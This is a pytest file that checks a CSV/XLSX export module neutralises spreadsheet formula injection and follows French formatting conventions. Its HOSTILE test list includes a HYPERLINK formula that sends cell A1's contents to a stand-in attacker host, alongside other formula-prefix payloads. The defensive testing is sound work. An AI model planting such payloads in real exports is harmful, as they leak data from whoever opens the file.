"""No cell of an export runs as a formula (OWASP « CSV injection »), whatever a vendor typed."""

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from core import exports
from core.exports import DATE, INSTANT, MONEY, NUMBER, Column

HOSTILE = [
    '=HYPERLINK("https://evil.invalid/?x="&A1,"Cliquez")',
    "+33 1 23 45 67 89",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
COLUMNS = [Column("Nom", lambda r: r)]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_text_cell_never_starts_a_formula(text):
    body = exports.csv_bytes(COLUMNS, [text]).decode("utf-8-sig")
    (_header, (cell,)) = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert cell == "'" + text  # shown as typed, behind the apostrophe that disarms it
    assert not cell.startswith(exports.FORMULA_STARTS)


@pytest.mark.parametrize("text", HOSTILE)
def test_an_xlsx_text_cell_is_text(text):
    response = exports.xlsx_response("x", "Feuille", COLUMNS, [text])
    content = b"".join(response.streaming_content)
    response.file_to_stream.close()  # (response.close() would signal a finished request)
    book = load_workbook(io.BytesIO(content))
    cell = book.active.cell(row=2, column=1)
    assert cell.data_type == "s"  # a string, never "f" (formula)
    assert cell.value == text


def test_french_conventions_and_typed_values():
    at = dt.datetime(2023, 12, 14, 13, 0, tzinfo=dt.UTC)  # 14:00 in Paris
    columns = [
        Column("Montant", lambda r: r[0], MONEY),
        Column("Le", lambda r: r[1], INSTANT),
        Column("Date", lambda r: r[2], DATE),
        Column("Nombre", lambda r: r[3], NUMBER),
    ]
    raw = exports.csv_bytes(columns, [(-180001, at, dt.date(2023, 9, 20), 7)])
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with its byte order mark
    lines = raw.decode("utf-8-sig").splitlines()
    assert lines == ["Montant;Le;Date;Nombre", "-1800,01;14/12/2023 14:00;20/09/2023;7"]
